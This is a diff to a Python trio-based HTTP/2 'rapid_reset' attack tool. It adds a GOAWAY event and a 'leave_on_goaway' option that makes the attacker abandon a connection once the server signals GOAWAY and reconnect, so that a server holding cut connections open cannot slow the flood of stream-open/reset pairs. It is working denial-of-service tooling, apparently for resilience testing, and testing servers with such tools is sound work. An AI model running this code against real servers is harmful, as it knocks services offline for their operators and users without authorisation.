@@ -329,6 +329,7 @@ class _Conn:
         self._decoder = hpack.Decoder()
         self._decoding_ok = True
         self.closed = trio.Event()  # set when the server closed, or we did
+        self.goaway = trio.Event()  # set when the server's GOAWAY was read
         self._closed_by_us = False
         self._read_eof = False
         self.max_frame_size = _DEFAULT_MAX_FRAME
@@ -470,6 +471,7 @@ class _Conn:
             self._windows_changed()
         elif ftype == GOAWAY and len(payload) >= 8:
             self._tally.goaways[int.from_bytes(payload[4:8], "big")] += 1
+            self.goaway.set()
         elif ftype == RST_STREAM:
             self._tally.resets_received += 1
             self._response_done()
@@ -558,6 +560,11 @@ async def _attack(
             with trio.move_on_at(hold_until):
                 await conn.closed.wait()
         nursery.cancel_scope.cancel()
+
+
+async def _cancel_when(event: trio.Event, scope: trio.CancelScope) -> None:
+    await event.wait()
+    scope.cancel()
 
 
 def _check_positive(**values: float) -> None:
@@ -684,6 +691,7 @@ async def rapid_reset(
     duration_s: float,
     *,
     reconnect: bool = False,
+    leave_on_goaway: bool = False,
     path: str = PING_PATH,
     scheme: str = "http",
 ) -> AttackStats:
@@ -692,7 +700,9 @@ async def rapid_reset(
     socket takes it, for at most ``duration_s``. The server's SETTINGS are acknowledged.
 
     With ``reconnect``, a connection the server closes is replaced (with a fresh budget of
-    ``streams_per_connection``) until the time is up.
+    ``streams_per_connection``) until the time is up. With ``leave_on_goaway`` as well, the
+    attacker closes a connection itself as soon as it reads a GOAWAY, instead of writing
+    until the server closes it (a server that holds a cut connection open does not slow it).
     """
     _check_positive(
         connections=connections,
@@ -714,8 +724,7 @@ async def rapid_reset(
             await trio.sleep(_RECONNECT_PAUSE_S)
             return
 
-        async def work() -> None:
-            await conn.open_h2(blind_ack=False)
+        async def send_pairs() -> None:
             stream_id = 1
             sent = 0
             while sent < streams_per_connection and trio.current_time() < deadline:
@@ -729,6 +738,14 @@ async def rapid_reset(
                     stream_id += 2
                 await conn.send(batch, 2 * n, streams=n)
                 sent += n
+
+        async def work() -> None:
+            await conn.open_h2(blind_ack=False)
+            async with trio.open_nursery() as nursery:
+                if leave_on_goaway:
+                    nursery.start_soon(_cancel_when, conn.goaway, nursery.cancel_scope)
+                await send_pairs()
+                nursery.cancel_scope.cancel()
 
         try:
             await _attack(conn, work)
